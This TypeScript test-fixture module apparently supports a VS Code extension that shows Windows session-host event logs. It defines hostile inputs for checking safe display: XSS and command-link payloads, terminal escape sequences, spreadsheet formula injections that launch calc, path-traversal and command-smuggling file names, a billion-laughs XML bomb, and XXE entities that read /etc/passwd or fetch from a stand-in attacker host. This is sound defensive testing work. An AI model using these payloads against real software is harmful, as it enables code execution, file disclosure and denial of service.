/**
 * What a document may hold to harm whoever shows it: for tests of every place at which a stranger's text is shown. None of
 * these may be more than text: not run, not fetched, not followed, not drawn.
 */

/** A web address that nothing may ever ask for; a test that records requests looks for it. */
export const REMOTE = 'https://attacker.invalid/x.png';

/** Markdown, HTML and the links of VS Code. */
export const MARKUP: readonly string[] = [
  '[click](command:workbench.action.quit)',
  `![x](${REMOTE})`,
  `<img src=x onerror="alert(1)">`,
  '<script>alert(1)</script>',
  `<a href="command:workbench.action.quit">x</a>`,
  `<svg/onload=alert(1)>`,
  `</code></pre><iframe src="${REMOTE}">`,
  '](command:workbench.action.quit)',
  '`](command:a) `` ``` ~~~',
  '$(alert) $(sync~spin)',
  '<!-- --><h1>x</h1>',
  '[x]: javascript:alert(1)',
  'javascript:alert(1)',
  'vscode://ms.x/run?cmd=calc',
  'file:///etc/passwd',
  '\\\\attacker.invalid\\share\\x.png',
  `${REMOTE}`,
  'www.attacker.invalid',
  'mailto:a@attacker.invalid',
  '| a | b |',
  '# heading',
  '---',
  '&lt;b&gt;&#x3c;b&#x3e;',
  '{{constructor.constructor("alert(1)")()}}',
];

/** What a terminal carries out: colours, the title, the clipboard, a link, a cleared screen, an answer that is typed back. */
export const TERMINAL: readonly string[] = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]52;c;Y2FsYw==\u0007',
  `\u001b]8;;${REMOTE}\u001b\\link\u001b]8;;\u001b\\`,
  '\u001b[6n',
  '\u009b31mred',
  '\u009d0;title\u009c',
  'a\rb',
  'a\bb',
  'a\u007fb',
  '\u0000',
  '\u0007',
];

/** What turns the reading direction, has no width, or looks like something else. */
export const INVISIBLE: readonly string[] = [
  '\u202e',
  '\u202a',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u180e',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u{e0041}',
];

/** What a spreadsheet takes for a formula. */
export const FORMULAS: readonly string[] = [
  '=cmd|"/c calc"!A1',
  '+1+cmd|"/c calc"!A1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("https://attacker.invalid","x")',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** Names of files that lead out of their folder, or that some system reserves. */
export const NAMES: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\Windows\\System32\\config\\SAM',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  '\\\\attacker.invalid\\share\\a.log',
  'CON',
  'a\u202egol.exe',
  'a\nb.log',
  'a%2f..%2fb.log',
  '~/.ssh/id_rsa',
  '$(calc).log',
  '`calc`.log',
  '-rf.log',
];

/** Halves of surrogate pairs, and characters that are none. */
export const HALVES: readonly string[] = ['\ud800', '\udfff', '\ud83d', 'a\udc00b', '\uffff', '\ufffe'];

/** Every string above. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...MARKUP,
  ...TERMINAL,
  ...INVISIBLE.map((character) => `a${character}b`),
  ...FORMULAS,
  ...NAMES,
  ...HALVES,
];

/** As the content of an XML element or of an attribute in double quotes. */
export const asXml = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    // What XML cannot hold, not even as a number, comes as itself: a damaged export has it too.
    .replaceAll(/[\t\n\r]/g, (one) => `&#${one.charCodeAt(0)};`);

/** Ten lines that a reader of entities would turn into gigabytes. */
export const BILLION_LAUGHS = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE Event [',
  '<!ENTITY l0 "lol">',
  ...Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`),
  ']>',
].join('\n');

/** Entities that a careless reader would fetch from the disk or from the network. */
export const EXTERNAL_ENTITIES = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE Event [',
  '<!ENTITY passwd SYSTEM "file:///etc/passwd">',
  `<!ENTITY remote SYSTEM "${REMOTE}">`,
  `<!ENTITY % outer SYSTEM "${REMOTE}.dtd">`,
  '%outer;',
  ']>',
].join('\n');

/** One event of a session host, its fields with what is given; of a reason code 5. */
export const hostEvent = (fields: {
  readonly user?: string;
  readonly address?: string;
  readonly computer?: string;
  readonly channel?: string;
}): string => {
  const { user = 'CONTOSO\\a.weber', address = '192.0.2.7', computer = 'HOST01', channel = 'Operational' } = fields;
  const system = (id: number, second: number) =>
    `<System><Provider Name="Microsoft-Windows-TerminalServices-LocalSessionManager"/><EventID>${id}</EventID>` +
    `<Level>4</Level><TimeCreated SystemTime="2026-03-03T13:20:${String(second).padStart(2, '0')}.0000000Z"/>` +
    `<Channel>${asXml(channel)}</Channel><Computer>${asXml(computer)}</Computer></System>`;
  return [
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">${system(21, 1)}<UserData><EventXML>` +
      `<User>${asXml(user)}</User><SessionID>3</SessionID><Address>${asXml(address)}</Address></EventXML></UserData></Event>`,
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">${system(40, 30)}<UserData><EventXML>` +
      `<Session>3</Session><Reason>5</Reason></EventXML></UserData></Event>`,
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">${system(24, 31)}<UserData><EventXML>` +
      `<User>${asXml(user)}</User><SessionID>3</SessionID><Address>${asXml(address)}</Address></EventXML></UserData></Event>`,
  ].join('\n');
};
